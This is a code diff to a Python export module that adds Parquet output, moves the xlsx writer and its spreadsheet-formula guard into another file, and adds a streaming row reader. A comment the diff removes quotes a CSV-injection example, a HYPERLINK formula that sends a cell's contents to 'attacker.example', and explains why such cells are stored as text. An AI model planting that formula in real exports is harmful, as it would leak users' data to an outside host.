@@ -1,8 +1,9 @@
-"""Writing export rows as CSV, JSON lines or an .xlsx workbook, and reading them in Python.
+"""Writing export rows as CSV, JSON lines, an .xlsx workbook or Parquet, and reading them.
 
 Every writer streams: rows are read from the store one at a time and written as they come
-(openpyxl in write-only mode), so exporting 20,000 items costs little memory. openpyxl
-and pandas are optional extras, imported only when asked for.
+(openpyxl in write-only mode, Parquet in row groups), so exporting 100,000 items costs
+little memory. openpyxl, pyarrow and pandas are optional extras, imported only when asked
+for.
 """
 
 from __future__ import annotations
@@ -14,7 +15,8 @@ from enum import Enum
 from pathlib import Path
 from typing import IO, Any
 
-from msa_check.batch.export import Row, Shape, columns, rows
+from msa_check.batch.export import Row, Shape, columns, layout_of, rows
+from msa_check.batch.export_xlsx import import_openpyxl, starts_like_formula, write_xlsx
 from msa_check.batch.store import ResultStore
 from msa_check.errors import SETTING, Setting, UsageError
 
@@ -23,9 +25,14 @@ class ExportFormat(str, Enum):
     csv = "csv"
     jsonl = "jsonl"
     xlsx = "xlsx"
+    parquet = "parquet"
 
 
-BINARY_FORMATS = frozenset({ExportFormat.xlsx})
+BINARY_FORMATS = frozenset({ExportFormat.xlsx, ExportFormat.parquet})
+OUTPUT_SETTINGS = {
+    ExportFormat.xlsx: Setting.OUTPUT_FILE,
+    ExportFormat.parquet: Setting.OUTPUT_PARQUET,
+}
 
 
 def export_to(
@@ -37,11 +44,16 @@ def export_to(
     stdout) is checked before the output file is created.
     """
     if output_format is ExportFormat.xlsx:
-        _import_openpyxl()
-        if output is None:
-            raise UsageError(
-                f"xlsx is a binary format: give {SETTING}", setting=Setting.OUTPUT_FILE
-            )
+        import_openpyxl()
+    if output_format is ExportFormat.parquet:
+        from msa_check.batch.export_parquet import import_pyarrow
+
+        import_pyarrow()
+    if output_format in BINARY_FORMATS and output is None:
+        raise UsageError(
+            f"{output_format.value} is a binary format: give {SETTING}",
+            setting=OUTPUT_SETTINGS[output_format],
+        )
     if output is not None and output.exists() and output.resolve() == store.resolve():
         raise UsageError(f"{output} is the results store itself: export to another file")
     with ResultStore.open(store, create=False) as results:
@@ -73,29 +85,28 @@ _TEXT: dict[str, Any] = {"encoding": "utf-8", "newline": ""}
 def export_store(
     store: Path, stream: IO[Any], output_format: ExportFormat, shape: Shape = Shape.wide
 ) -> int:
-    """Write every result of `store` to `stream` (text for csv/jsonl, binary for xlsx)."""
+    """Write every result of `store` to `stream` (text for csv/jsonl, binary otherwise)."""
     with ResultStore.open(store, create=False) as results:
         return _write(results, stream, output_format, shape)
 
 
 def _write(results: ResultStore, stream: IO[Any], output_format: ExportFormat, shape: Shape) -> int:
-    names = columns(shape, results.rule_sets())
-    found = rows(results.results(), shape)
+    layout = layout_of(results)
+    names = columns(shape, layout)
+    found = rows(results.results(), shape, layout)
     if output_format is ExportFormat.csv:
         return write_csv(stream, names, found)
     if output_format is ExportFormat.jsonl:
         return write_jsonl(stream, names, found)
-    return write_xlsx(stream, names, found, title=shape.value)
+    if output_format is ExportFormat.parquet:
+        from msa_check.batch.export_parquet import write_parquet
 
+        return write_parquet(stream, names, found)
+    from msa_check.batch.export_summary import export_summary
 
-# A spreadsheet reads a cell that begins with one of these as a formula (or, for tab and
-# carriage return, shifts it into one): a statement sentence such as
-# `=HYPERLINK("http://attacker.example/?d="&A1)` must arrive as text (OWASP, "CSV Injection").
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def starts_like_formula(value: str) -> bool:
-    return value.startswith(FORMULA_TRIGGERS)
+    return write_xlsx(
+        stream, names, found, title=shape.value, summary=lambda: export_summary(results, layout)
+    )
 
 
 def csv_cell(value: object) -> object:
@@ -131,57 +142,18 @@ def write_jsonl(stream: IO[str], names: list[str], found: Iterable[Row]) -> int:
     return count
 
 
-def write_xlsx(stream: IO[bytes], names: list[str], found: Iterable[Row], title: str) -> int:
-    openpyxl = _import_openpyxl()
-    workbook = openpyxl.Workbook(write_only=True)
-    sheet = workbook.create_sheet(title)
-    sheet.append(names)
-    count = 0
-    illegal = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE  # control characters XML cannot hold
-    for row in found:
-        values = [row.get(name) for name in names]
-        sheet.append(
-            [_xlsx_cell(sheet, illegal.sub(" ", v)) if isinstance(v, str) else v for v in values]
-        )
-        count += 1
-    workbook.save(stream)
-    return count
-
-
-def _xlsx_cell(sheet: Any, text: str) -> Any:
-    """A text cell; one that looks like a formula is stored as a string, never a formula
-    (openpyxl would otherwise write `=...` as a live formula)."""
-    if not starts_like_formula(text):
-        return text
-    from openpyxl.cell import WriteOnlyCell
-
-    cell = WriteOnlyCell(sheet, value=text)
-    cell.data_type = "s"
-    cell.quotePrefix = True  # Excel shows it as typed and will not re-read it as a formula
-    return cell
-
-
-def _import_openpyxl() -> Any:
-    try:
-        import openpyxl
-    except ImportError as exc:
-        raise UsageError(
-            f"xlsx export needs openpyxl: pip install 'msa-check[xlsx]' (or use {SETTING})",
-            setting=Setting.CSV_FORMAT,
-        ) from exc
-    return openpyxl
-
-
 def read_store(path: str | Path, as_dataframe: bool = False, shape: str = "wide") -> Any:
-    """The results of a store as rows: an iterator of dicts, or a pandas DataFrame.
+    """The results of a store as a list of dicts, one per row, or a pandas DataFrame.
 
     `shape` is "wide" (one row per item) or "long" (one per evidence sentence); the
-    columns are those of `msa-check export`. A DataFrame needs pandas
-    (pip install 'msa-check[pandas]'); without it this raises ImportError saying so.
+    columns are those of `msa-check export`. Every row is read into memory: for a large
+    store, iterate with `iter_store_rows`, or export to Parquet and read it in batches.
+    A DataFrame needs pandas (pip install 'msa-check[pandas]'); without it this raises
+    ImportError saying so.
     """
     chosen = Shape(shape)
     if not as_dataframe:
-        return _iter_rows(ResultStore.open(Path(path), create=False), chosen)
+        return list(iter_store_rows(path, chosen.value))
     try:
         import pandas
     except ImportError as exc:
@@ -190,12 +162,22 @@ def read_store(path: str | Path, as_dataframe: bool = False, shape: str = "wide"
             "or call read_store(path) for plain dicts"
         ) from exc
     with ResultStore.open(Path(path), create=False) as results:
-        names = columns(chosen, results.rule_sets())
-        return pandas.DataFrame(list(rows(results.results(), chosen)), columns=names)
+        layout = layout_of(results)
+        names = columns(chosen, layout)
+        return pandas.DataFrame(list(rows(results.results(), chosen, layout)), columns=names)
+
+
+def iter_store_rows(path: str | Path, shape: str = "wide") -> Iterator[Row]:
+    """The results of a store as dicts, read one row at a time: memory stays flat for a
+    store of any size. The store is open until the iterator is exhausted or closed."""
+    chosen = Shape(shape)
+    results = ResultStore.open(Path(path), create=False)  # now: a missing store fails here
+    return _iter_rows(results, chosen)
 
 
 def _iter_rows(results: ResultStore, shape: Shape) -> Iterator[Row]:
     with results:
-        names = columns(shape, results.rule_sets())
-        for row in rows(results.results(), shape):
+        layout = layout_of(results)
+        names = columns(shape, layout)
+        for row in rows(results.results(), shape, layout):
             yield {name: row.get(name) for name in names}
